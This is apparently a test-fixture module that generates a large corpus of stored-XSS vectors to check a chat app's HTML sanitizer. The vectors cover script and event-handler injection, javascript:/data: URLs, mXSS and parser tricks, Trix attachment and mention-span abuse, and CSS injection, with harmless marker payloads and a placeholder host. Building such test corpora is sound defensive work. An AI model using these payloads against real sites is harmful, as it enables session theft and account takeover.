// The stored-XSS corpus for xss.test.mjs. Every vector, if it ever ran, would do one of three
// things the test watches for: open a dialog (alert/confirm/prompt), set window.__xss, or log
// "__xss_ran" to the console. Some also try to load https://xss.invalid/… (the test aborts and
// records every request that does not go to 127.0.0.1).
//
// Templates take the payload `p`; the corpus rotates the three payloads over them.

const EVIL = 'https://xss.invalid'
const PAYLOADS = ['alert(1)', 'window.__xss=1', "console.log('__xss_ran')"]

// --- hand-written classics, parser tricks, mXSS, namespaces, raw-text elements ---
const classics = [
  (p) => `<script>${p}</script>`,
  (p) => `<SCRIPT>${p}</SCRIPT>`,
  (p) => `<ScRiPt >${p}</sCrIpT >`,
  (p) => `<script/xss>${p}</script>`,
  (p) => `<script type="module">${p}</script>`,
  (p) => `<script src="data:,${p}"></script>`,
  (p) => `<script src=${EVIL}/x.js></script>`,
  (p) => `<script>/*</script>*/${p}</script>`,
  (p) => `</script><script>${p}</script>`,
  (p) => `<scr<script>ipt>${p}</scr</script>ipt>`,
  (p) => `<<script>script>${p}<</script>/script>`,
  (p) => `<script\x00>${p}</script>`,
  (p) => `<script\n>${p}</script\n>`,
  (p) => `<img src=x onerror=${p}>`,
  (p) => `<img src=x onerror="${p}">`,
  (p) => `<img/src/onerror=${p}>`,
  (p) => `<IMG SRC=x OnErRoR=${p}>`,
  (p) => `<img src=x onerror=${p}//`,
  (p) => `<img src=x onerror=${p} `,
  (p) => `<img """><script>${p}</script>">`,
  (p) => `<img src=x:x onerror=eval(alt) alt="${p}">`,
  (p) => `<img src=x onerror="&#${p.charCodeAt(0)};${p.slice(1)}">`,
  (p) => `<img src=x onerror="\\u0061${p.slice(1)}">`,
  (p) => `<img src="${EVIL}/i.png">`,
  (p) => `<img srcset="${EVIL}/i.png 1x" onerror=${p}>`,
  (p) => `<svg onload=${p}>`,
  (p) => `<svg/onload=${p}>`,
  (p) => `<svg onload=${p}//`,
  (p) => `<svg><script>${p}</script></svg>`,
  (p) => `<svg><script>${p.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>`,
  (p) => `<svg><script xlink:href="data:,${p}"></script></svg>`,
  (p) => `<svg><animate onbegin=${p} attributeName=x dur=1s>`,
  (p) => `<svg><a><animate attributeName=href values=javascript:${p} /><text x=20 y=20>Click</text></a></svg>`,
  (p) => `<svg><set attributeName=onmouseover to=${p}>`,
  (p) => `<svg><foreignObject><img src=x onerror=${p}></foreignObject></svg>`,
  (p) => `<svg><style><img src=x onerror=${p}></style></svg>`,
  (p) => `<svg></p><style><a id="</style><img src=1 onerror=${p}>">`,
  (p) => `<svg><title><img src=x onerror=${p}></title></svg>`,
  (p) => `<svg><desc><![CDATA[</desc><img src=x onerror=${p}>]]></svg>`,
  (p) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${p}'/></svg>#x"/></svg>`,
  (p) => `<math href="javascript:${p}">click</math>`,
  (p) => `<math><maction actiontype="statusline" xlink:href="javascript:${p}">click</maction></math>`,
  (p) => `<math><style><img src=x onerror=${p}></style></math>`,
  (p) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${p}&gt;">`,
  (p) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${p}>`,
  (p) => `<math><mi xlink:href="javascript:${p}">x</mi></math>`,
  (p) => `<noscript><p title="</noscript><img src=x onerror=${p}>">`,
  (p) => `<noembed><img title="</noembed><img src onerror=${p}>"></noembed>`,
  (p) => `<noframes><img title="</noframes><img src onerror=${p}>"></noframes>`,
  (p) => `<xmp><img title="</xmp><img src onerror=${p}>"></xmp>`,
  (p) => `<textarea><img title="</textarea><img src onerror=${p}>"></textarea>`,
  (p) => `<title><img title="</title><img src onerror=${p}>"></title>`,
  (p) => `<style><img title="</style><img src onerror=${p}>"></style>`,
  (p) => `<iframe><img title="</iframe><img src onerror=${p}>"></iframe>`,
  (p) => `<plaintext><img src=x onerror=${p}>`,
  (p) => `<template><img src=x onerror=${p}></template>`,
  (p) => `<template><style></template><img src=x onerror=${p}>`,
  (p) => `<template><script>${p}</script></template><div id=t></div>`,
  (p) => `<select><template><img src=x onerror=${p}></template></select>`,
  (p) => `<table><tr><td><img src=x onerror=${p}></td></tr></table>`,
  (p) => `<table><style><img src=x onerror=${p}></style></table>`,
  (p) => `<!--<img src="--><img src=x onerror=${p}//">`,
  (p) => `<!-- --!><img src=x onerror=${p}> -->`,
  (p) => `<![CDATA[><img src=x onerror=${p}>]]>`,
  (p) => `<?xml version="1.0"?><img src=x onerror=${p}>`,
  (p) => `<!DOCTYPE html><img src=x onerror=${p}>`,
  (p) => `<iframe srcdoc="&lt;script&gt;${p}&lt;/script&gt;"></iframe>`,
  (p) => `<iframe srcdoc="<img src=x onerror=parent.${p.replace('window.', '')}>"></iframe>`,
  (p) => `<iframe src="javascript:${p}"></iframe>`,
  (p) => `<iframe src="data:text/html,<script>${p}</script>"></iframe>`,
  (p) => `<iframe src="${EVIL}/frame"></iframe>`,
  (p) => `<iframe onload=${p}></iframe>`,
  (p) => `<frameset onload=${p}>`,
  (p) => `<object data="data:text/html,<script>${p}</script>"></object>`,
  (p) => `<object data="javascript:${p}"></object>`,
  (p) => `<embed src="javascript:${p}">`,
  (p) => `<embed src="data:image/svg+xml,<svg onload='${p}' xmlns='http://www.w3.org/2000/svg'/>">`,
  (p) => `<applet code="javascript:${p}"></applet>`,
  (p) => `<meta http-equiv="refresh" content="0;url=javascript:${p}">`,
  (p) => `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${p}</script>">`,
  (p) => `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  (p) => `<base href="javascript:${p}//">`,
  (p) => `<base href="${EVIL}/">`,
  (p) => `<link rel=stylesheet href="${EVIL}/s.css">`,
  (p) => `<link rel=import href="data:text/html,<script>${p}</script>">`,
  (p) => `<style>@import '${EVIL}/s.css';</style>`,
  (p) => `<style>body{background:url("javascript:${p}")}</style>`,
  (p) => `<style>*{x:expression(${p})}</style>`,
  (p) => `<div style="background:url(javascript:${p})">styled</div>`,
  (p) => `<div style="width:expression(${p})">expr</div>`,
  (p) => `<div style="behavior:url(${EVIL}/x.htc)">htc</div>`,
  (p) => `<div style="background-image:url(${EVIL}/bg.png)">bg</div>`,
  (p) => `<div style="x:\\65 xpression(${p})">esc</div>`,
  (p) => `<p style="animation-name:spin" onanimationstart=${p}>anim</p>`,
  (p) => `<input autofocus onfocus=${p}>`,
  (p) => `<input type=image src=x onerror=${p}>`,
  (p) => `<input type=text value="" autofocus onfocus="${p}">`,
  (p) => `<textarea autofocus onfocus=${p}></textarea>`,
  (p) => `<select autofocus onfocus=${p}></select>`,
  (p) => `<keygen autofocus onfocus=${p}>`,
  (p) => `<details open ontoggle=${p}>`,
  (p) => `<marquee onstart=${p}>m</marquee>`,
  (p) => `<video><source onerror=${p}></video>`,
  (p) => `<video src=x onerror=${p}></video>`,
  (p) => `<audio src=x onerror=${p}></audio>`,
  (p) => `<body onload=${p}>`,
  (p) => `<body onpageshow=${p}>`,
  (p) => `<html onmouseover=${p}>`,
  (p) => `<isindex action="javascript:${p}" type=submit>`,
  (p) => `<form action="javascript:${p}"><input type=submit></form>`,
  (p) => `<form><button formaction="javascript:${p}">go</button></form>`,
  (p) => `<button onclick=${p}>click</button>`,
  (p) => `<a href="javascript:${p}">link</a>`,
  (p) => `<a href="#" onclick="${p}">link</a>`,
  (p) => `<a href="https://example.com/" onmouseover="${p}">hover</a>`,
  (p) => `<a href="https://example.com/" style="position:fixed;inset:0">overlay</a>`,
  (p) => `<a href="https://example.com/" target="_self" rel="opener">opener</a>`,
  (p) => `<a href="https://example.com/" ping="${EVIL}/ping">ping</a>`,
  (p) => `<a xlink:href="javascript:${p}">xlink</a>`,
  (p) => `<div onmouseover="${p}">hover me</div>`,
  (p) => `<div id="x" tabindex=1 onfocus=${p} autofocus>focus</div>`,
  (p) => `<div contenteditable onfocus=${p} autofocus>edit</div>`,
  (p) => `<div popover id=pp onbeforetoggle=${p}>pop</div><button popovertarget=pp>p</button>`,
  (p) => `<x onpointerenter=${p}>custom</x>`,
  (p) => `<custom-el onclick=${p}>ce</custom-el>`,
  (p) => `<object type="text/x-scriptlet" data="${EVIL}/x.sct"></object>`,
  (p) => `<img src="x` + '`' + `" onerror=${p}>`,
  (p) => `<img src=\`x\` onerror=\`${p}\`>`,
  (p) => `<img src='x' onerror='${p}'>`,
  (p) => `<a href=" javascript:${p}">sp</a>`,
  (p) => `<a href="\tjavascript:${p}">tab</a>`,
  (p) => `<a href="&#x01;javascript:${p}">ctl</a>`,
  (p) => `<a href="\x0Bjavascript:${p}">vt</a>`,
]

// --- event handlers on every element type ---
const handlerElements = [
  ['img', 'src=x'], ['svg', ''], ['body', ''], ['iframe', ''], ['video', 'src=x'], ['audio', 'src=x'],
  ['input', 'autofocus'], ['details', 'open'], ['marquee', ''], ['div', ''], ['p', ''], ['span', ''],
  ['a', 'href="https://example.com/"'], ['strong', ''], ['em', ''], ['b', ''], ['i', ''], ['del', ''],
  ['s', ''], ['strike', ''], ['h1', ''], ['blockquote', ''], ['pre', ''], ['code', ''], ['ul', ''],
  ['ol', ''], ['li', ''], ['figure', ''], ['figcaption', ''], ['br', ''], ['table', ''], ['td', ''],
  ['button', ''], ['form', ''], ['select', 'autofocus'], ['textarea', 'autofocus'], ['object', 'data=x'],
  ['embed', 'src=x'], ['math', ''], ['style', ''], ['link', 'rel=stylesheet href=x'], ['object', ''],
  ['x', ''], ['frame', ''], ['label', ''], ['section', ''], ['header', ''], ['dialog', 'open'],
]
const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'onanimationstart', 'onbegin',
  'ontoggle', 'onpointerenter', 'onauxclick', 'onfocusin', 'onmouseenter', 'onscroll', 'onbeforeinput']
const elementVectors = handlerElements.map(([tag, extra], i) => {
  const on = handlers[i % handlers.length]
  return (p) => `<${tag} ${extra} ${on}="${p}" style="animation-name:x">${tag}</${tag}>`
})
// every allowed element (and the mention span) with an on* attribute in several quotings
const allowedTags = ['div', 'p', 'strong', 'b', 'em', 'i', 'del', 's', 'strike', 'h1', 'blockquote', 'pre',
  'code', 'ul', 'ol', 'li', 'figure', 'figcaption', 'span', 'a']
const quoteStyles = [(n, p) => `${n}=${p}`, (n, p) => `${n}='${p}'`, (n, p) => `${n}="${p}"`, (n, p) => `${n}\n=\n"${p}"`]
const allowedHandlerVectors = allowedTags.map((tag, i) => (p) => {
  const q = quoteStyles[i % quoteStyles.length]
  return `<${tag} ${q(handlers[(i + 3) % handlers.length], p)} ${q('style', 'x:1')} ${q('id', 'xss' + i)}>${tag}</${tag}>`
})

// --- javascript:/data:/vbscript: URLs with entity, whitespace and case tricks, in several carriers ---
const urls = [
  (p) => `javascript:${p}`,
  (p) => `JaVaScRiPt:${p}`,
  (p) => `&#106;avascript:${p}`,
  (p) => `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${p}`,
  (p) => `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${p}`,
  (p) => `java&#x09;script:${p}`,
  (p) => `java&#x0A;script:${p}`,
  (p) => `java&#13;script:${p}`,
  (p) => `java\tscript:${p}`,
  (p) => `java\nscript:${p}`,
  (p) => ` \x01javascript:${p}`,
  (p) => `javascript&colon;${p}`,
  (p) => `javascript&#58;${p}`,
  (p) => `%6Aavascript:${p}`,
  (p) => `javascript://%0A${p}`,
  (p) => `javascript://example.com/%0A${p}`,
  (p) => `data:text/html;base64,${Buffer.from(`<script>${p}</script>`).toString('base64')}`,
  (p) => `data:text/html,<script>${p}</script>`,
  (p) => `DATA:text/html,<img src=x onerror=${p}>`,
  (p) => `data:image/svg+xml,<svg onload='${p}' xmlns='http://www.w3.org/2000/svg'/>`,
  (p) => `vbscript:msgbox(1)`,
  (p) => `VBScript:${p}`,
  (p) => `jar:javascript:${p}`,
  (p) => `livescript:${p}`,
  (p) => `javascript\u0000:${p}`,
  (p) => `http://example.com/" onmouseover="${p}`,
  (p) => `https:javascript:${p}`,
  (p) => `mailto:x@example.com" onclick="${p}`,
  (p) => `//${EVIL.slice(8)}/x`,
  (p) => `\\\\${EVIL.slice(8)}/x`,
]
const carriers = [
  (u) => `<a href="${u}">a</a>`,
  (u) => `<a href='${u}'>a</a>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>f</button></form>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>s</text></a></svg>`,
]
const urlVectors = []
urls.forEach((url, i) => {
  // every URL in an <a href>, plus two more carriers each (rotating)
  urlVectors.push((p) => carriers[0](url(p)))
  urlVectors.push((p) => carriers[1 + (i % 5)](url(p)))
  urlVectors.push((p) => carriers[1 + ((i + 2) % 5)](url(p)))
})

// --- attribute breaking quotes (what a template that forgot to escape would turn into markup) ---
const quoteBreakers = [
  (p) => `"><img src=x onerror=${p}>`,
  (p) => `'><svg onload=${p}>`,
  (p) => '`><img src=x onerror=' + p + '>',
  (p) => `" onmouseover="${p}`,
  (p) => `' autofocus onfocus='${p}`,
  (p) => `" autofocus onfocus="${p}" x="`,
  (p) => `"/><script>${p}</script>`,
  (p) => `</textarea><script>${p}</script>`,
  (p) => `</title><script>${p}</script>`,
  (p) => `</style><script>${p}</script>`,
  (p) => `"]; ${p}; //`,
  (p) => `\\"><img src=x onerror=${p}>`,
  (p) => `&quot;&gt;&lt;img src=x onerror=${p}&gt;`,
  (p) => `{{constructor.constructor('${p.replace(/'/g, '"')}')()}}`,
  (p) => `\${${p}}`,
  (p) => `"><iframe srcdoc="<script>${p}</script>">`,
]

// --- Trix-specific: attachment JSON and content types (what bodyToTrix/trixToBody read) ---
const trix = [
  (p) => `<figure data-trix-attachment='{"contentType":"application/vnd.campfire.mention","content":"<img src=x onerror=${p}>"}' data-trix-content-type="application/vnd.campfire.mention">@x</figure>`,
  (p) => `<figure data-trix-attachment='{"contentType":"application/vnd.campfire.mention","userId":"abcdefghijklmno","name":"<img src=x onerror=${p}>"}'></figure>`,
  (p) => `<figure data-trix-attachment='{"contentType":"text/html","content":"<script>${p}</script>"}'></figure>`,
  (p) => `<figure data-trix-attachment='{"url":"javascript:${p}","href":"javascript:${p}","filename":"<img src=x onerror=${p}>"}' class="attachment"></figure>`,
  (p) => `<figure data-trix-attachment='{"contentType":"image/svg+xml","url":"data:image/svg+xml,<svg onload=${p}>"}'><img src="data:image/svg+xml,<svg onload=${p}>"></figure>`,
  (p) => `<div data-trix-attachment='{"contentType":"application/vnd.campfire.mention","content":"<span class=mention data-user-id=x onmouseover=${p}>@x</span>"}'>d</div>`,
  (p) => `<figure data-trix-attributes='{"caption":"<img src=x onerror=${p}>"}'><figcaption onmouseover=${p}>cap</figcaption></figure>`,
  (p) => `<action-text-attachment content-type="text/html" content="&lt;img src=x onerror=${p}&gt;"></action-text-attachment>`,
  (p) => `<figure><figcaption><img src=x onerror=${p}></figcaption></figure>`,
  (p) => `<!--block--><img src=x onerror=${p}><!--block-->`,
  (p) => `<trix-editor onfocus=${p} autofocus></trix-editor>`,
  (p) => `<bc-attachment content-type="application/vnd.campfire.mention" sgid="x" onerror=${p}></bc-attachment>`,
]

// --- mention spans with injected attributes ---
const mentions = [
  (p) => `<span class="mention" data-user-id="abcdefghijklmno" onmouseover="${p}">@Ada</span>`,
  (p) => `<span class="mention" data-user-id='"><img src=x onerror=${p}>'>@Ada</span>`,
  (p) => `<span class="mention" data-user-id="abcdefghijklmno" style="position:fixed;inset:0" onclick="${p}">@Ada</span>`,
  (p) => `<span class="mention mention--me x" data-user-id="abcdefghijklmno" onfocus=${p} tabindex=0 autofocus>@Ada</span>`,
  (p) => `<span class="mention" data-user-id="abcdefghijklmno"><img src=x onerror=${p}>@Ada</span>`,
  (p) => `<span class="mention" data-user-id="abcdefghijklmno" data-trix-attachment='{"content":"<img src=x onerror=${p}>"}'>@Ada</span>`,
  (p) => `<span class="mention" data-user-id="ABCDEFGHIJKLMNO" onmouseover=${p}>@upper</span>`,
  (p) => `<span class="mention" data-user-id="abcdefghijklmnop" onmouseover=${p}>@sixteen</span>`,
  (p) => `<span class=mention data-user-id=abcdefghijklmno/onmouseover=${p}>@slash</span>`,
  (p) => `<a class="mention" data-user-id="abcdefghijklmno" href="javascript:${p}">@link</a>`,
  (p) => `<span class="mention" data-user-id="abcdefghijklmno" id="root">@clobber</span><form id=x name=__xss><img name=${p.replace(/\W/g, '')}></form>`,
  (p) => `<span class="mention" data-user-id="abcdefghijklmno">@<script>${p}</script></span>`,
]

// --- markdown-ish links and autolinking bait ---
const markdown = [
  (p) => `[click](javascript:${p})`,
  (p) => `![img](javascript:${p})`,
  (p) => `[a](data:text/html,<script>${p}</script>)`,
  (p) => `<javascript:${p}>`,
  (p) => `www.example.com/"onmouseover="${p}"`,
  (p) => `http://example.com/"><img src=x onerror=${p}>`,
  (p) => `https://example.com/<img src=x onerror=${p}>`,
  (p) => `http://a.example/'onmouseover='${p}'`,
  (p) => `www.example.com/"><script>${p}</script>`,
  (p) => `https://example.com/?q=&lt;script&gt;${p}&lt;/script&gt;`,
  (p) => `javascript:${p}//www.example.com`,
  (p) => `https://javascript:${p}@example.com/`,
  (p) => `[x](https://example.com/ "title" onmouseover="${p}")`,
  (p) => `http://example.com/\u0000"onmouseover=${p}`,
]

// --- emoji, bidi and invisible characters ---
const unicode = [
  (p) => `\u202e<img src=x onerror=${p}>\u202c`,
  (p) => `🔥<script>${p}</script>🔥`,
  (p) => `<scr\u200bipt>${p}</scr\u200bipt>`,
  (p) => `<a href="java\u200bscript:${p}">zw</a>`,
  (p) => `<a href="\ufeffjavascript:${p}">bom</a>`,
  (p) => `\uff1cscript\uff1e${p}\uff1c/script\uff1e`,
  (p) => `<img src=x onerror=${p}\u2028>`,
  (p) => `👩‍💻<svg onload=${p}>👨‍👩‍👧`,
  (p) => `\u2066<a href="javascript:${p}">isolate</a>\u2069`,
  (p) => `<a href="https://example.com/">\u202etxt.exe</a><img src=x onerror=${p}>`,
  (p) => `<img src=x onerror\u00a0=${p}>`,
  (p) => `<img src=x on\u0000error=${p}>`,
]

// --- entity-escaped markup: shows as text, so its plain text (search snippets) holds real "<" ---
const escaped = [
  (p) => `&lt;img src=x onerror=${p}&gt;`,
  (p) => `&lt;script&gt;${p}&lt;/script&gt;`,
  (p) => `&lt;svg onload=${p}&gt; onerror marker`,
  (p) => `&amp;lt;img src=x onerror=${p}&amp;gt;`,
  (p) => `<code>&lt;iframe srcdoc="&lt;script&gt;${p}&lt;/script&gt;"&gt;</code>`,
  (p) => `<pre>&lt;/mark&gt;&lt;img src=x onerror=${p}&gt;</pre>`,
]

// --- very long strings ---
const long = [
  (p) => 'A'.repeat(20000) + `<img src=x onerror=${p}>`,
  (p) => `<a href="javascript:${'a'.repeat(5000)};${p}">long</a>`,
  (p) => '<div>'.repeat(600) + `<img src=x onerror=${p}>` + '</div>'.repeat(600),
  (p) => `<img ${Array.from({ length: 300 }, (_, i) => `a${i}=${i}`).join(' ')} src=x onerror=${p}>`,
  (p) => '<b><i>'.repeat(200) + `<svg onload=${p}>`,
  (p) => `<img src=x onerror="${' '.repeat(3000)}${p}">`,
]

const families = { classics, elementVectors, allowedHandlerVectors, urlVectors, quoteBreakers, trix, mentions, markdown, unicode, escaped, long }

/** Every vector: {id, family, html}. */
export const VECTORS = []
for (const [family, list] of Object.entries(families)) {
  for (const make of list) {
    const i = VECTORS.length
    VECTORS.push({ id: i, family, html: make(PAYLOADS[i % PAYLOADS.length]) })
  }
}

/** Short vectors (for fields with small limits): at most n characters. */
export function short(n) {
  return VECTORS.filter((v) => [...v.html].length <= n)
}

/** Custom CSS an admin might paste: it must stay CSS (served as text/css), never run. */
export const CSS_VECTORS = [
  `</style><script>window.__xss=1</script><style>`,
  `body{background:url("javascript:alert(1)")}`,
  `*{x:expression(alert(1))}`,
  `body{behavior:url(x.htc);-moz-binding:url("data:text/xml,<x/>#xss")}`,
  `@import 'javascript:alert(1)';`,
  `.x::after{content:"</style><img src=x onerror=window.__xss=1>"}`,
  `<img src=x onerror=alert(1)>`,
  `/* */ </style><svg onload=alert(1)>`,
  `@namespace url("javascript:alert(1)");`,
  `@font-face{font-family:x;src:url("javascript:alert(1)")}`,
]

export const PAYLOAD_MARKERS = PAYLOADS

/** Boosts are 1 to 16 characters: the short end of the corpus. */
export const BOOST_VECTORS = [
  '<script>', '</script>', '<svg/onload=a()>', '<svg onload=a()>', '"><svg/onload=1', "'><img src=x>", '<img src=x>',
  '<b onclick=a()>', 'javascript:a()', 'JaVaScRiPt:a()', '<a href=x:a()>', '</span><b>b</b>', '{{7*7}}', '${alert(1)}',
  '<x onclick=1>x', '\'"><b>x</b>', '&lt;b&gt;', '<!--', '-->', ']]>', '\u202e<svg>', '<iframe/src=x>', '<style>',
  '</style><b>', '<!--<b>-->', '<math><mi>', '<template>', '<noscript>', '<xmp>', '<textarea>', '<title>', '<plaintext>',
  '"onmouseover="a', "'onfocus='a", '`onclick=`a', '&#60;script&#62;', '%3Cscript%3E', '\\u003cscript\\u003e', '＜script＞',
  '<svg><script>', 'data:text/html,', 'vbscript:a', '<base href=x>', '<meta charset>', '<embed src=x>', '<object>',
  '@everyone <b>', '🔥<svg>🔥', '<bdo dir=rtl>x', '<img src onerror', '<a href=//x.y>', '<isindex>', '<frameset>',
].filter((s) => [...s].length <= 16)
